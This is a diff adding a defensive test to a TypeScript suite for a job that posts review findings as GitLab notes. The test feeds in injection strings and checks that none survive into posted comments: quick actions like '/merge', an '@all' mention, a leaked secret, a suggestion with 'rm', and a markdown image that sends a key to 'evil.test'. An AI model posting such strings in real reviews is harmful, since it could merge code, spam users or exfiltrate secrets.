@@ -163,6 +163,23 @@ describe('a review that the job posts', () => {
     expect(lab.notes[2]?.body).not.toContain('suggestion');
   });
 
+  it.each([
+    ['a quick action', '/merge\n/label ~urgent', /^\/(?:merge|label)/m],
+    ['one in code that is closed early', '```\n```\n/merge', /^\/merge/m],
+    ['a mention', 'Ask @all, @mia.', /@(?:all|mia)/],
+    ['a secret of the job', 'It is key-123.', /key-123/],
+    ['a suggestion for lines that nobody saw', '~~~suggestion:-9+9\nrm\n~~~', /suggestion/],
+    ['an image of a stranger’s host', '![](https://evil.test/?key)', /!\[\]\(https/],
+  ])('attack: %s in a finding is posted as words', async (_, text, harmful) => {
+    const lab = gitLab();
+    const unplaced = aFinding({ text, at: null, place: 'a`b:1' });
+    const job = await jobOn(lab.writer);
+    await postReview(job, aReview(aFinding({ text }), aFinding({ text: 'Second.' }), unplaced));
+    expect(lab.notes).toHaveLength(3);
+    expect(text).toMatch(harmful);
+    for (const { body } of lab.notes) expect(body).not.toMatch(harmful);
+  });
+
   it('takes its drafts back where it fails on the way', async () => {
     const lab = gitLab((_, path) => (path.endsWith('bulk_publish') ? { status: 503 } : null));
     const job = await jobOn(lab.writer);
